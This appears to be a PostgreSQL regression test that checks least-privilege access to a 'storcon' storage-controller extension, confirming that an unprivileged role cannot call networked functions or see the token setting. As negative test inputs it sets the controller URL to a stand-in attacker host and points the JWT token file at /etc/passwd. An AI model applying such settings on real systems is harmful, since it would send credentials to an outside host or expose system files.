-- Least privilege: nothing that talks to storcon is executable by PUBLIC, the mirror is readable,
-- and the token setting is invisible to other roles.
CREATE ROLE storcon_regress_user;
SET ROLE storcon_regress_user;
SELECT * FROM storcon.sync_catalog();
SELECT count(*) > 0 AS can_read_nodes FROM storcon.nodes;
SELECT count(*) > 0 AS can_read_safekeepers FROM storcon.safekeepers;
SHOW storcon.jwt_token_file;
SELECT count(*) AS visible_token_settings FROM pg_settings WHERE name = 'storcon.jwt_token_file';
SET storcon.url = 'http://attacker.example:1';
SET storcon.jwt_token_file = '/etc/passwd';
SELECT storcon._mirror_nodes('[]');
DELETE FROM storcon.nodes;
SELECT storcon.api('GET', '/status');
SELECT * FROM storcon.tenant_create();
RESET ROLE;

-- What PUBLIC may execute in schema storcon: only argument checks that talk to nobody.
SELECT p.oid::regprocedure AS executable_by_public
  FROM pg_proc p
 WHERE p.pronamespace = 'storcon'::regnamespace
   AND has_function_privilege('storcon_regress_user', p.oid, 'EXECUTE')
 ORDER BY p.oid::regprocedure::text;

-- The documented grant for an administrator role.
GRANT EXECUTE ON ALL FUNCTIONS IN SCHEMA storcon TO storcon_regress_user;
SET ROLE storcon_regress_user;
SELECT * FROM storcon.sync_catalog();
SELECT count(*) > 0 AS sees_nodes FROM storcon.api('GET', '/control/v1/node') n;
SELECT tenant_id FROM storcon.tenants() WHERE tenant_id = 'aa000000000000000000000000000001';
RESET ROLE;
REVOKE EXECUTE ON ALL FUNCTIONS IN SCHEMA storcon FROM storcon_regress_user;
DROP ROLE storcon_regress_user;
